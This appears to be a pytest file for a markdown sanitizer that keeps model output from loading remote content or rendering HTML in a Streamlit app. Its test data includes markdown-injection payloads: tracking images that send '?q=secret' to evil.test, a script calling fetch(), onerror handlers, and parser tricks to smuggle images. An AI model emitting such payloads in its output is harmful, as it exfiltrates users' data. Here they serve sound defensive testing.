"""safe_markdown: model output keeps its formatting but can load nothing and render no HTML.

Checked by rendering with markdown-it (a CommonMark parser like Streamlit's); the browser test checks
the same payloads in Chromium through Streamlit itself."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from vireo.ui.safe_markdown import escape_text, safe_markdown

RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LOADING_OR_ACTIVE = re.compile(
    r"<(img|a|script|iframe|object|embed|link|style|svg|video|audio|source|form|"
    r"input|meta|base|div|span|b)\b",
    re.IGNORECASE,
)

HOSTILE = {
    "image": "look ![tracker](http://evil.test/t.png?q=secret) here",
    "image with title": '![x](http://evil.test/t.png "title")',
    "reference image": "![x][r]\n\n[r]: http://evil.test/ref.png",
    "data uri image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image inside link": "[![x](http://evil.test/i.png)](http://evil.test/l)",
    "link": "[click me](http://evil.test/phish)",
    "autolink": "<http://evil.test/auto>",
    "email autolink": "<someone@evil.test>",
    "html image": '<img src="http://evil.test/i.png" onerror="alert(1)">',
    "script": "<script>fetch('http://evil.test/s')</script>",
    "html block": '<div>\n<iframe src="http://evil.test/f"></iframe>\n</div>',
    "inline html": "text <b>bold</b> <a href='http://evil.test'>a</a>",
    "comment": "<!-- hidden --> after",
    "entity-encoded image": "&#33;[x](http://evil.test/e.png)",
    "escaped bracket then image": "\\\\![x](http://evil.test/b.png)",
    "fence closed by a container": "- item\n  ```\n![x](http://evil.test/c.png)\n```",
    "fence in a quote": "> ```\n![x](http://evil.test/q.png)",
    "math fence": "$$\n```\n$$\n![x](http://evil.test/m.png)\n```",
    "footnote": "[^1]: note\n    ![x](http://evil.test/fn.png)",
    "table cell": "| a | b |\n|---|---|\n| ![x](http://evil.test/t.png) | <img src=x> |",
    "setext trick": "![x](http://evil.test/s.png)\n===",
    "unclosed fence": "```\n![x](http://evil.test/u.png)",
}


def html_of(markdown: str) -> str:
    return RENDER.render(markdown)


@pytest.mark.parametrize("payload", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_markdown_renders_no_element_that_loads_or_runs(payload):
    html = html_of(safe_markdown(payload))
    assert not LOADING_OR_ACTIVE.search(html), html


@pytest.mark.parametrize("payload", [p for p in HOSTILE.values() if "`" not in p and "$$" not in p])
def test_what_was_hostile_is_shown_as_its_text(payload):
    shown = re.sub(r"<[^>]+>", "", html_of(safe_markdown(payload)))
    for url in re.findall(r"(?:http://|data:)[^\s)\"'>]+", payload):
        assert url in shown.replace("&amp;", "&"), f"{url} is not shown in {shown!r}"


def test_an_image_is_shown_as_its_markdown_with_the_url_as_code():
    shown = html_of(safe_markdown("![x](http://evil.test/track.png)"))
    assert shown == "<p>![x](<code>http://evil.test/track.png</code>)</p>\n"


def test_bare_urls_and_addresses_are_code_not_links():
    # Streamlit's GFM links any bare URL in text, escaped or not; code is never linked
    shown = html_of(safe_markdown("See https://docs.example/a?b=1. Or www.example.org, or me@example.com!"))
    assert shown == (
        "<p>See <code>https://docs.example/a?b=1</code>. Or <code>www.example.org</code>, "
        "or <code>me@example.com</code>!</p>\n"
    )


def test_html_tags_are_shown_as_text():
    shown = html_of(safe_markdown("say <script>alert(1)</script> now"))
    assert shown == "<p>say &lt;script&gt;alert(1)&lt;/script&gt; now</p>\n"


CODE = "def f(a):\n    return a[0](1) < 2  # ![x](http://evil.test/p.png) <b>\n```\n````\n"


@pytest.mark.parametrize(
    "document",
    [
        f"`````python\n{CODE}`````\n",
        f"1. step one\n\n   `````python\n   {CODE.replace(chr(10), chr(10) + '   ')}`````\n",
        f"> `````\n> {CODE.replace(chr(10), chr(10) + '> ')}`````\n",
        "    indented(code) < 1 ![x](http://evil.test/i.png)\n",
    ],
    ids=["top level", "in a list", "in a quote", "indented"],
)
def test_code_keeps_every_character(document):
    original = [t for t in RENDER.parse(document) if t.type in ("fence", "code_block")]
    safe = [t for t in RENDER.parse(safe_markdown(document)) if t.type in ("fence", "code_block")]
    assert [t.content for t in safe] == [t.content for t in original]


def test_inline_code_keeps_every_character():
    document = "call `a[0](x) <b>` and ``a ` b``"
    assert html_of(safe_markdown(document)) == html_of(document)


FORMATTED = [
    "# Heading\n\nSome *emphasis*, **strong**, ~~struck~~ and `code`.\n",
    "Setext heading\n---\n\ntext",
    "- one\n- two\n  - nested\n- three\n",
    "1. first\n2. second\n\n   still second\n3. third\n",
    "7) seven\n8) eight\n",
    "> quoted *text*\n>\n> - a list in a quote\n",
    "| left | right | centre |\n|:-----|------:|:------:|\n| 1 | 2 | 3 |\n| a \\| b | `c` | **d** |\n",
    "line one  \nline two\\\nline three\n",
    "***\n\ntext after a rule\n\n---\n",
    "Prices: $5 and $10, 100% sure, 3 < 4 > 2, a_b_c, snake_case, 2 * 3 * 4.\n",
    "1986. A great year.\n\n\\- not a list\n\n\\# not a heading\n",
    'Dear reader,\nThe answer is:\n```json\n{"a": [1, 2]}\n```\nThanks.',
]


@pytest.mark.parametrize("document", FORMATTED)
def test_formatting_without_links_or_html_renders_the_same(document):
    assert html_of(safe_markdown(document)) == html_of(document)


def test_streamed_text_cut_anywhere_is_still_safe():
    document = "Intro ![x](http://evil.test/p.png)\n\n```py\nx = 1\n```\n<img src=http://evil.test/i>"
    for end in range(len(document) + 1):
        html = html_of(safe_markdown(document[:end] + " ▌"))
        assert not LOADING_OR_ACTIVE.search(html), (end, html)


def test_labels_and_messages_are_plain_text():
    label = "report ![x](http://evil.test/l.png) <b>*1*</b>"
    assert html_of(escape_text(label)) == "<p>report ![x](http://evil.test/l.png) &lt;b&gt;*1*&lt;/b&gt;</p>\n"


def test_no_ui_code_lets_html_through():
    ui = Path(__file__).resolve().parents[2] / "vireo" / "ui"
    for path in ui.rglob("*.py"):
        source = path.read_text()
        assert "unsafe_allow_html=True" not in source, path
        assert "st.html(" not in source, path
